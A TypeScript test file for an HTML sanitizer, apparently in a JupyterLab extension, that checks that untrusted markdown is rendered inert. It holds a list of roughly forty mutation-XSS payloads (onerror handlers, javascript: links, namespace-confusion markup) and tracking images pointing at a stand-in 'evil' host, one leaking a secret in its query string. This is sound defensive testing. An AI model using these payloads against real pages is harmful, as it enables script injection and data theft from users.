import { test } from 'node:test';
import assert from 'node:assert/strict';

import { JSDOM } from 'jsdom';
import { marked } from 'marked';

import { KEPT_ELEMENTS, createUntrustedSanitizer, keptClasses } from '../src/core/sanitizer';

// DOMPurify needs a DOM, which node lacks: jsdom's HTML parser (parse5) follows the same
// spec as the browser's, so mutation payloads re-parse here as they would in a page.
const { window } = new JSDOM('<!DOCTYPE html><body></body>');
const sanitizer = createUntrustedSanitizer(window as unknown as Window);

const KEPT_TAGS = new Set(KEPT_ELEMENTS);
const SAFE_ATTRIBUTES = new Set([
  'title', 'lang', 'dir', 'class', 'href', 'target', 'rel', 'referrerpolicy', 'src', 'alt',
  'width', 'height', 'colspan', 'rowspan', 'align', 'scope', 'span', 'start', 'reversed',
  'type', 'value', 'open', 'checked', 'disabled', 'datetime'
]);

/** Every way `root` breaks the rules, as readable strings (empty when it keeps them). */
function violations(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    if (!KEPT_TAGS.has(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
      found.push(`element <${tag}> (${element.namespaceURI})`);
    }
    for (const { name, value } of Array.from(element.attributes)) {
      if (!SAFE_ATTRIBUTES.has(name)) {
        found.push(`attribute ${name} on <${tag}>`);
      } else if (name === 'href' && !/^(https?:|mailto:)/.test(value)) {
        found.push(`link to ${value}`);
      } else if (name === 'src' && !/^data:image\//.test(value)) {
        found.push(`image from ${value}`);
      } else if (name === 'class' && value.split(' ').some(c => c !== 'athena-remote-image' && !/^(language-|\u037c)/.test(c))) {
        found.push(`class ${value} on <${tag}>`);
      }
    }
  }
  return found;
}

/** `html` parsed the way innerHTML does, as Lab does with a sanitizer's string. */
function reparse(html: string): HTMLElement {
  const holder = window.document.createElement('div');
  holder.innerHTML = html;
  return holder;
}

// Mutation XSS: markup that is clean when a sanitizer walks it but turns into live markup
// once serialized and parsed again (namespace confusion, raw-text elements, comments,
// form nesting). DOMPurify's fragment is inserted as is; Lab re-parses the string form.
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>',
  '<table><td><svg><foreignObject><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<style><img title="</style><img src onerror=alert(1)>"></style>',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><style><!--</style><a rel="--></template></select><img src onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<?xml ><img src=x onerror=alert(1)>?>',
  '<a title="<!--"><img src=x onerror=alert(1)>-->',
  '<scr<script>ipt>alert(1)</script>',
  '<image src=x onerror=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="command:help:about">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="http://evil/x 2x" src="data:image/png;base64,AA==">',
  '<form id="test"><input name="attributes"><input name="nodeName"></form>',
  '<a href="https://ok.example/" id="__proto__" name="body">x</a>',
  '<div data-commandlinker-command="help:about" data-commandlinker-args="{}">x</div>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input type="image" src="http://evil/x"><input type="text" autofocus onfocus=alert(1)>',
  '<base href="http://evil/"><a href="https://ok.example/">x</a>',
  '<span style="background:url(http://evil/x)" class="jp-Dialog">x</span>'
];

test('mutation payloads stay inert in the DOM and after Lab parses the string again', () => {
  for (const payload of MUTATIONS) {
    const fragment = sanitizer.toFragment(payload);
    assert.deepEqual(violations(fragment), [], `fragment of ${payload}`);
    let html = sanitizer.toHtml(payload);
    for (let round = 1; round <= 2; round++) {
      const parsed = reparse(html);
      assert.deepEqual(violations(parsed), [], `round ${round} of ${payload}: ${html}`);
      html = parsed.innerHTML;
    }
  }
});

test('a hostile answer keeps its prose, links, code and data images, and loses the rest', () => {
  const markdown = [
    'Minted at dawn [1] <img src="http://evil/img?d=secret" alt="tracker"> and',
    '![chart](http://evil/chart.png) and <a href="https://example.org/q" data-commandlinker-command="help:about">the guide</a>.',
    '',
    '<button data-commandlinker-command="help:about">Quokka settings</button> [js](javascript:alert(1))',
    '',
    '<img src="data:image/png;base64,AA==" alt="red dot" width="8" height="8px">',
    '',
    '- [x] done',
    '',
    '```python',
    'print("<img src=http://evil/in-code>")',
    '```'
  ].join('\n');
  const html = marked.parse(markdown, { async: false, gfm: true }) as string;
  const holder = window.document.createElement('div');
  holder.append(sanitizer.toFragment(html));

  const remote = Array.from(holder.querySelectorAll('a.athena-remote-image'));
  assert.deepEqual(remote.map(a => [a.getAttribute('href'), a.textContent]), [
    ['http://evil/img?d=secret', 'tracker'],
    ['http://evil/chart.png', 'chart']
  ]);
  const guide = holder.querySelector('a[href="https://example.org/q"]');
  assert.ok(guide);
  assert.equal(guide.getAttribute('target'), '_blank');
  assert.equal(guide.getAttribute('rel'), 'noopener noreferrer');
  assert.equal(guide.getAttribute('referrerpolicy'), 'no-referrer');
  assert.equal(holder.querySelector('[data-commandlinker-command], button'), null);
  assert.ok(holder.textContent?.includes('Quokka settings'), 'an unwrapped element keeps its text');
  const js = Array.from(holder.querySelectorAll('a')).find(a => a.textContent === 'js');
  assert.ok(js && !js.hasAttribute('href'), 'a javascript: link keeps its text, not its target');
  const dot = holder.querySelector('img[alt="red dot"]');
  assert.ok(dot);
  assert.equal(dot.getAttribute('width'), '8');
  assert.equal(dot.hasAttribute('height'), false, 'a size that is not a number goes');
  const box = holder.querySelector('input');
  assert.ok(box && box.getAttribute('type') === 'checkbox' && box.hasAttribute('disabled'));
  assert.equal(holder.querySelector('pre code')?.className, 'language-python');
  assert.match(holder.querySelector('pre code')?.textContent ?? '', /<img src=http:\/\/evil\/in-code>/);
  assert.deepEqual(violations(holder), []);
});

test('content cannot borrow the host page\'s or Lab\'s classes', () => {
  assert.equal(keptClasses('div', 'root', false), '', 'a docs site\'s own layout class');
  assert.equal(keptClasses('span', 'jp-Dialog', false), '', 'Lab\'s dialog');
  assert.equal(keptClasses('span', 'jp-Dialog', true), '', 'not inside code either');
  assert.equal(keptClasses('code', 'root language-python', false), 'language-python');
  assert.equal(keptClasses('div', 'language-python', false), '', 'a language class only on code');
  assert.equal(keptClasses('span', '\u037c1', false), '', 'highlight classes only inside code');
  const fragment = sanitizer.toFragment(
    '<div class="root">a</div><pre><code class="root language-c++"><span class="\u037ct \u037c1a jp-X">x</span></code></pre>'
  );
  const holder = window.document.createElement('div');
  holder.append(fragment);
  assert.equal(holder.innerHTML,
    '<div>a</div><pre><code class="language-c++"><span class="\u037ct \u037c1a">x</span></code></pre>');
});
